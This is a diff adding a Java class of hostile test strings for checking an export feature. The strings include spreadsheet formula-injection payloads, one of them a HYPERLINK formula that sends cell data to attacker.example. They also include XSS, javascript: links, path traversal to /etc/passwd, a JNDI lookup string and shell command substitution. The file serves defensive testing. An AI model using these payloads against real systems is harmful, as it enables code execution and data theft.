@@ -1,0 +1,47 @@
+package tribune.export;
+
+import java.text.Normalizer;
+import java.util.List;
+import java.util.stream.Stream;
+
+/** Texts that have broken other people's exports; all of them may stand in a record. */
+final class HostileTexts {
+  static final List<String> ALL =
+      Stream.of(
+              "=cmd|' /C calc'!A0",
+              "=HYPERLINK(\"https://attacker.example/?x=\"&A1,\"click\")",
+              "+1+1",
+              "-2+3",
+              "@SUM(A1:A9)",
+              "\t=1+1",
+              "\r=1+1",
+              "\n=1+1",
+              "\uff1d1+1",
+              "\uff0b1",
+              "\uff0d1",
+              "\uff20x",
+              "'=1+1",
+              "''",
+              "a;=1+1",
+              "\"quoted\", \"\"twice\"\"",
+              "line one\nline two\r\nline three\rline four",
+              ",;|\t\"",
+              "\u0000\u0001\u0008\u000b\u001b[31mred\u007f\u0085\u009b",
+              "\u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f",
+              "\u2028\u2029\u00a0\ufeff",
+              "<script>alert(1)</script><img src=x onerror=alert(1)>",
+              "]]>&amp;&#x3c;<!--x--><?php ?><![CDATA[",
+              "| a | b |\n| --- | --- |\n# title\n- [ ] x\n![i](https://a.example/i.png)",
+              "[x](javascript:alert(1)) `code` **bold** @everyone #1 ~~x~~ <https://a.example>",
+              "\ud83d\ude00\ud83d\udc69\u200d\ud83d\udc67 \u00e9 e\u0301 \ufdfd \ud834\udd1e",
+              "../../etc/passwd",
+              "%s %n ${jndi:ldap://x} {{7*7}} $(id) `id`",
+              "   leading and trailing   ",
+              "",
+              " ",
+              "x".repeat(8_000))
+          .map(text -> Normalizer.normalize(text, Normalizer.Form.NFC))
+          .toList();
+
+  private HostileTexts() {}
+}
